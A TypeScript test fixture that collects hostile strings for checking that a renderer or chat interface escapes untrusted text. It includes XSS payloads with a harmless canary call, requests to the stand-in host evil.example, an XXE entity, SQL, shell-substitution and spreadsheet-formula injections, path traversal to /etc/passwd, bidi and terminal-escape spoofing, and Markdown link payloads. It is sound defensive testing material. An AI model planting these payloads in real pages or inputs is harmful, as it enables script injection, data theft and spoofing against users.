/**
 * What somebody might write to have it run, to pass for something else, or to break what reads it. Each calls `window.__xss` should it
 * run as a script, and asks for something at `evil.example` should it be loaded.
 */
const RUN = '__xss(1)';

/** Markup, in whatever a parser might take for it. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="https://evil.example/x.png" onload="${RUN}">`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>`,
  `<body onload=${RUN}>`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<style>@import 'https://evil.example/x.css'; *{display:none}</style>`,
  `<div style="background:url(https://evil.example/x.png);position:fixed;inset:0">`,
  `<form action="https://evil.example/"><input name=t><button>Approve</button></form>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<xss id=x tabindex=1 onfocus=${RUN}></xss>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `]]><script>${RUN}</script><![CDATA[`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/">]><x>&e;</x>`,
  `<b>bold</b> &lt;i&gt; &amp;amp; &#60;img src=x onerror=${RUN}&#62; &nbsp;`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
] as const;

/** Addresses that are none. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#x09;script:${RUN}`,
  `&#106;avascript&colon;${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==`,
  `vbscript:${RUN}`,
  `blob:https://evil.example/x`,
  `command:workbench.action.terminal.new`,
  `https://evil.example/"onmouseover="${RUN}`,
  `https://good.example@evil.example/`,
  `https://xn--80ak6aa92e.com/ https://аррӏе.com/`,
] as const;

/** What reads as code to something between the writer and the reader. */
const CODE = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}} #{${RUN}} <%= ${RUN} %> {% raw %}`,
  `'-${RUN}-' ";${RUN};//`,
  `'; DROP TABLE entries; --`,
  `%s %n %x %d %%s %1$s`,
  `; touch /tmp/xss; \`touch /tmp/xss\` $(touch /tmp/xss) | & > < "`,
  `\\ \\\\ \\" \\' \\n \\u003cimg\\u003e \\x3c`,
  `=cmd|' /C calc'!A0 @SUM(1) +1 -1`,
  `../../../../etc/passwd ..\\..\\windows`,
  `$(bell) $(alert~spin) $(sync) $(zap) icons`,
  `:root{--sr-bg:red} } * { display: none } /*`,
  `expression(${RUN}) url(javascript:${RUN})`,
] as const;

/** Names that every object has already. */
export const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'then',
  'length',
  'null',
  'undefined',
  'NaN',
] as const;

/** Text that is drawn in a way of its own. */
const UNUSUAL = [
  'شروع کار – left again',
  'e\u0301\u0302\u0303 combining, \u{1f469}\u200d\u{1f4bb} joined, \u{1f3f3}\ufe0f flag',
  'Ünïcödé – “quotes” … ½ ∞ ﷽ 漢字',
  `Wide${'W'.repeat(150)}`,
] as const;

/** Text that hides, or turns round what stands beside it. */
export const DISGUISED = [
  'right to left \u202egnp.exe\u202c now',
  'isolated \u2067evil\u2069 and \u2066open',
  'zero\u200bwidth\u2060and\ufeffmore\u00adsoft',
  'tags \u{e0041}\u{e0042}',
] as const;

/** What a terminal or a log would obey. */
export const CONTROLS = [
  '\u001b[31mred\u001b[0m \u001b[2J\u001b[H\u001b]0;title\u0007 cleared',
  '\u001b]8;;https://evil.example/\u001b\\a link\u001b]8;;\u001b\\ of OSC 8',
  '\u009b31m C1 \u0090+q\u009c \u0007 bell \u0008\u0008\u0008 back',
  'over\rwritten',
] as const;

/** Markdown that means more than it shows. Chat reads it, and nothing else does. */
export const MARKDOWN = [
  `[click](javascript:${RUN})`,
  `[click](JaVa\tScRiPt:${RUN} "title")`,
  `[click](<javascript:${RUN}>)`,
  `[click](data:text/html,<script>${RUN}</script>)`,
  `[click](command:workbench.action.terminal.new)`,
  `![x](https://evil.example/x.png) ![x](x" onerror="${RUN})`,
  `<javascript:${RUN}> <https://evil.example/x>`,
  `[a][r] ![a][r]`,
  `[https://good.example](https://evil.example/)`,
  `**<img src=x onerror=${RUN}>** _<svg onload=${RUN}>_`,
  `\`<img src=x onerror=${RUN}>\``,
  `# <img src=x onerror=${RUN}>`,
  `> <iframe src="javascript:${RUN}">`,
  `- <details open ontoggle=${RUN}>`,
  `| a | b |\\n|--|--|\\n| <img src=x onerror=${RUN}> | x |`,
  `@<img src=x onerror=${RUN}> #<svg onload=${RUN}>`,
] as const;

/** Of the plain ones, those in which Markdown sees an entity, an escape, an emphasis or code: in chat they are read so. */
export const READ_IN_CHAT: readonly string[] = [...MARKUP, ...ADDRESSES, ...CODE, ...NAMES].filter((text) =>
  /&\w+;|&#\w+;|\\[^\w\s]|__proto__|`|^\[/.test(text),
);

/** One line each, and what is shown of each is what was written. */
export const PLAIN_TEXTS: readonly string[] = [...MARKUP, ...ADDRESSES, ...CODE, ...NAMES, ...UNUSUAL];

export const ALL_TEXTS: readonly string[] = [...PLAIN_TEXTS, ...DISGUISED, ...MARKDOWN];
